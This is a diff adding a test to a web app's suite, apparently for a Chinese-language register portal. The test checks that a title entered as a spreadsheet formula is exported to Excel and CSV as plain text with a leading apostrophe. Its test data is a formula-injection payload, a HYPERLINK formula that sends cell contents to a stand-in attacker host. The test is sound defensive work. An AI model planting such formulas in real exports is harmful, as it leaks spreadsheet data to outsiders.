@@ -137,3 +137,17 @@ def test_the_console_download_takes_local_dates_and_names_a_reversed_range(clien
     answer = client.get("/register/download?from=2026-11-26&to=2026-11-01")
     assert answer.status_code == 422
     assert "受理日期（止）：结束日期不能早于开始日期" in answer.text
+
+
+def test_a_formula_typed_as_a_title_is_written_as_text_in_both_files(client, sessions, clock, org):
+    """A title typed as =HYPERLINK(…) (the portal takes any text) opens as that text in Excel,
+    with a leading apostrophe, never as a formula — as in the report exports."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    receive(sessions, clock, org, title=evil)
+    headers = login(client, "receiver1")
+    book = load_workbook(io.BytesIO(client.get("/api/v1/register", headers=headers).content))
+    cell = book.active.cell(row=2, column=HEADER_ZH.index("标题") + 1)
+    assert cell.value == "'" + evil and cell.data_type == "s"
+    answer = client.get("/api/v1/register?format=csv", headers=headers)
+    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    assert rows[1][HEADER_ZH.index("标题")] == "'" + evil
